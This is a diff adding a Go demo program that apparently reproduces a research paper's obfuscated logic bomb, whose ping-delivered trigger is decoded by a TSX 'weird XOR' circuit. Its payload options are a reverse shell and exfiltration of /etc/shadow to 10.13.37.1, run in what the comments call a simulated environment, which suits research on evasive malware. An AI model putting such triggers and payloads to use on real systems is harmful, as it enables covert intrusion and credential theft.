@@ -1,0 +1,120 @@
+// Command uwm-apt demonstrates the weird obfuscation system of §5.1:
+// a logic bomb whose trigger decoding runs on a TSX weird XOR circuit.
+// It installs a simulated payload, prints the secret trigger, and then
+// either drives the ping loop itself (-demo) or listens on a UDP socket
+// for trigger candidates (-listen), standing in for the paper's
+// "ping localhost -p $XOR_SECRET" delivery.
+//
+// Usage:
+//
+//	uwm-apt -demo                         # self-contained demo
+//	uwm-apt -demo -payload exfil          # exfiltrate the fake shadow file
+//	uwm-apt -listen 127.0.0.1:9999        # wait for UDP trigger datagrams
+package main
+
+import (
+	"flag"
+	"fmt"
+	"os"
+
+	"uwm/internal/otp"
+	"uwm/internal/wmapt"
+)
+
+func main() {
+	var (
+		demo    = flag.Bool("demo", false, "run the full trigger loop locally")
+		listen  = flag.String("listen", "", "listen for 20-byte UDP trigger datagrams on this address")
+		payload = flag.String("payload", "shell", `payload: "shell" or "exfil"`)
+		seed    = flag.Uint64("seed", 7, "simulation seed")
+		maxPing = flag.Int("max-pings", 500, "demo: give up after this many pings")
+	)
+	flag.Parse()
+
+	if !*demo && *listen == "" {
+		flag.Usage()
+		os.Exit(2)
+	}
+
+	var p wmapt.Payload
+	switch *payload {
+	case "shell":
+		p = wmapt.ReverseShell{Addr: "10.13.37.1", Port: 4444}
+	case "exfil":
+		p = wmapt.ExfilShadow{Path: "/etc/shadow", Dest: "10.13.37.1:8080"}
+	default:
+		fmt.Fprintf(os.Stderr, "uwm-apt: unknown payload %q\n", *payload)
+		os.Exit(2)
+	}
+
+	env := wmapt.NewEnv()
+	apt, err := wmapt.New(env, wmapt.Options{Seed: *seed})
+	if err != nil {
+		fmt.Fprintf(os.Stderr, "uwm-apt: %v\n", err)
+		os.Exit(1)
+	}
+	pad, err := apt.Install(p)
+	if err != nil {
+		fmt.Fprintf(os.Stderr, "uwm-apt: %v\n", err)
+		os.Exit(1)
+	}
+	fmt.Printf("installed %s payload; trigger (ping -p pattern): %s\n", p.Name(), pad.PingPattern())
+
+	if *listen != "" {
+		l, err := wmapt.ListenUDP(*listen, apt)
+		if err != nil {
+			fmt.Fprintf(os.Stderr, "uwm-apt: %v\n", err)
+			os.Exit(1)
+		}
+		defer l.Close()
+		fmt.Printf("listening on %s; send the 20 raw trigger bytes as a UDP datagram\n", l.Addr())
+		res := <-l.Results()
+		report(res, env)
+		return
+	}
+
+	// Demo: deliver a few wrong triggers (silence), then the real one
+	// until the weird XOR decodes it.
+	wrong := pad
+	wrong[5] ^= 0x20
+	for i := 0; i < 3; i++ {
+		res, err := apt.HandlePing(wrong)
+		if err != nil {
+			fmt.Fprintf(os.Stderr, "uwm-apt: %v\n", err)
+			os.Exit(1)
+		}
+		if res != nil {
+			fmt.Println("UNEXPECTED: fired on a wrong trigger")
+			os.Exit(1)
+		}
+		fmt.Printf("ping %d (wrong trigger): silent, environment untouched\n", apt.Pings())
+	}
+	for apt.Pings() < *maxPing {
+		res, err := apt.HandlePing(pad)
+		if err != nil {
+			fmt.Fprintf(os.Stderr, "uwm-apt: %v\n", err)
+			os.Exit(1)
+		}
+		if res != nil {
+			report(*res, env)
+			return
+		}
+		fmt.Printf("ping %d (correct trigger): weird XOR picked up gate errors, still silent\n", apt.Pings())
+	}
+	fmt.Fprintf(os.Stderr, "uwm-apt: trigger did not decode within %d pings\n", *maxPing)
+	os.Exit(1)
+}
+
+func report(res wmapt.Result, env *wmapt.Env) {
+	fmt.Printf("\npayload fired after %d pings (%d weird XOR transforms of 160 bits each)\n",
+		res.PingsReceived, res.Attempts)
+	for _, e := range res.Events {
+		fmt.Println("  payload:", e)
+	}
+	fmt.Println("environment:", env.Snapshot())
+	// Re-derive the trigger encoding helper so the example shows both
+	// directions of the ping-pattern round trip.
+	if _, err := otp.ParsePingPattern(otp.Pad{}.PingPattern()); err != nil {
+		fmt.Fprintln(os.Stderr, "uwm-apt: ping pattern round-trip failed:", err)
+	}
+}
